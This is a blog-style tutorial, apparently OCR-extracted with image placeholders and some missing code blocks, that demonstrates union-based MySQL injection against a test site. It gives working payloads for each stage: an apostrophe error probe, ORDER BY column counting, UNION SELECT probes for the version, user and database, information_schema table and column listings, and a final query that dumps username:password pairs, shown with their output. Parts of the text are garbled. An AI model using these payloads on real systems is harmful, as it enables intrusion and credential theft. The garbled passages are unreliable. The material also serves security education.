MySQL Injection


Today, I will be writing a simple PoC on SQL Injections. By reading this information, you agree that you are responsible for the damage you cause to personal property.

Any web application that allows user input as a derivative to perform an action can be prone to command injection. Attackers can craft unique queries that can result in database information disclosure of sensitive data.

The SQL structures are compartmentalized into Servers, Databases, Tables, Columns, and Rows. The SQL Server is the software running on the machine waiting for instructions from aterminal or commands over the internet. This SQL Server is comprised of one or many databases.These databases are used for the storage of information and are composed of tables, and these tables composed of columns and rows. Below is a simple concept that demonstrates how records are stored in a MySQL database.

Tables > Columns > Records

Tables contain columns and columns have records. For example: Members can be a table, Name can be a column, and the actual value is the record.

What is SQL Injection?

SQL Injection is a server-side web application vulnerability that occurs on the database layer of the web application that allows users to execute arbitrary code to alter, modify, or delete data. This is possible through carefully crafted SQL Statements that are inserted via $GET or $POST parameters. Essentially an attacker is aiming to match the SQL Syntax that coincides with the written application to execute their own code. SQLi comes in various different forms and techniques, usually exploiting MySQL, MsSQL, Postgre SQL, Oracle, and even Access Databases.  Now that we have a very generic understanding of SQLi, the next section will discuss on how to spot this vulnerability and exploit them.

Finding SQL Injection Vulnerabilities

SQL Injection vulnerabilities can be found on any web page that uses a database to store user credentials, product information, current news pertaining to the site, credit card numbers, access logs, and more. For this demonstration I will be exploiting this flaw on a system that allows user testing. This will simulate a real world scenario on how attackers take advantage of this vulnerability. In order to understand how this attack works, we need to take a look at the URL and create pseudo code, because SQL is not visible by the client.


Theback-end SQL code for this example should look similar to:


The above code is proper syntax for the application to behave as it should. The most important part of identifying this vulnerability is by placing an ‘ (apostrophe), at the end of theparameter a script is using to cause a syntax error to verify that the application is vulnerable to this attack. Now our URL becomes:'

When the results are sent to the server, the webpage generates an error:

You have an error in your SQL Syntax; Check the manual that corresponds to your MySQL Serverversion for the right syntax to use near "1'" at line 1

It is very important that we analyze the error that is beingdisplayed. The application generates an error because the SQL Code is not proper:


The application is looking for an ID of 1 and 1′ is not a valid entry. Now that the vulnerability has been confirmed, we need to determine how many columns are available. This is important because we need to know how many fields to use in our injection – ‘ORDER BY <number of columns>‘ will be used to determine how many columns are being used. Below is the request being sent:' order by 300--+-

With this request, you are asking the database if the there are 300 columns, I usually use this range because there almost never 300 fields in the database that are being used in the code, to verify that I can start guessing. –+- is being used to comment the rest of the SQL Code. The response from the server follows:

Unknown column '300' in 'order clause'

Server response tells us that the are not 300 columns, so we keep enumerating until we get a valid number' order by 10--+- <-- Error' order by 5--+- <-- Error' order by 4--+- <-- Error' order by 3--+- <-- No Error!

Now that we know that there are 3 columns, we need to find which columns are visible for injecting. We will replace our queries in place of this number in the URL. In order to do that we need to use ‘UNION SELECT <Number of Columns>‘ and also make our statement false, our request will be:' union select 1,2,3--+-

False statements can be made in several different ways such as:

If you pay close attention, you will see a random “2” appear on the site. This means that in our query, column 2 will be replaced with our query to extract information from the database. In a real life penetration test, these random numbers that appear on thesite will range from the column count and can be shown anywhere on the page.

The next step is to find some useful information about the database such as the user, the database name, and most importantly the version.

  • version() <– Displays Database Version
  • @@version <– Displays Database Version
  • user()<– Displays Current Database User
  • database() <– Displays Current Database In Use

Lets extract some information:' union select 1,version(),3--+-' union select 1,user(),3--+-' union select 1,database(),3--+-

  1. Version = 5.5.42=cll
  2. Current User = leettime_W89sst1@localhost
  3. Current Database = leettime_761wHole

The version is a very important piece of information because it will tell us if this attack can be automated. Databases whose version are lower than 5 cannot use information_schema database. This is necessary when obtaining all the tables from the database, which will be our next step inthis attack.

In order to retrieve all the tables from the database the following query will need to be sent to the server:' union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()--+-

Which retrieves the tables – testtable1, userlogs, and users. Let me explain the above statement. Group_concat() is a function to concatenate information, meaning, it will group all the information and separate each field with a comma. In this case we are grouping all the table which are denoted by the field or column name table_name (simple enough to remember?) in the information_schema database on the “tables” table. The last part of our query tells the database that we will be using our current database for the retrieval of these tables,which we know is database(). This explanation can be confusing, below is the simple structure of the query, as it goes from general to specific:

  1. SELECT column(s) FROM tableWHERE <condition>
  2. SELECT column(s) FROM database.table WHERE <condition>
  3. SELECT table_name FROM information_schema.tables WHEREtable_schema=database()
  4. SELECT group_concat(table_name) FROM database.table WHERE table_schema=database()

Our job at this point is to select a table that may contain sensitive user information. From our list, the table “users” will satisfy that need. The next phase is to extract the columns from that table. This can be done in several forms:

  1.' union select 1,group_concat(column_name),3 from information_schema.columns where table_name='users'--+-
  2. union select 1,group_concat(column_name),3 from information_schema.columns where table_name=0x7573657273–+-
  3. union select 1,group_concat(column_name),3 from information_schema.columns where table_name=CHAR(117, 115, 101, 114, 115)–+-

A couple of things changed here, “table_name” becomes “column_names” and “information_schema.tables” becomes “information_schema.tables“. Our WHERE clause also changes to “table_name='<table_name>’“.

The first form shows that the value for “table_name” is ‘users’. This is the table in plain text and can be done in this form because single quotes are not escaped or filtered.

The second form shows that the value for “table_name” is ‘0x7573657273’ which is hexidecimal value for the word “users”.Lastly, the final way to specify the value for “table_name” is by using CHAR(). Here each letter of the word “users” is replaced with the ASCII representation of that letter. For example, 117 is “u”, 115 is “s”, 114 is “e”, etc.

The webpage loads with the requested information and provides us with the columns for the “users” table – id, username, password, user_type, and sec_code. The columns we are interested in are “username” and “password“. Now we extract the information from those fields like so:' union select 1,group_concat(username,0x3a,password),3 from users--+-

The username and password are being concatenated together with 0x3a which is hex for a colon “:” and every field separated by a comma. The final response extract the username and password from the users table:

  •injector:khan,decompiler:hacktract,devilhunte:dante,Zen:sec-idiots,Zenodermus:security-i,grayhat:hacker,khan:haxor,admin:sadmin


Based on the demonstrated concept above, SQL Injection can be used to disclose personal user information. This post did not describe an intricate method on how to perform this attack, as it is the most basic forms of SQL Injection. A lot of topics were excluded from this post due to the length of the material. However, it provides the public with a general understanding on how the attack can bedone.

Thank you for reading!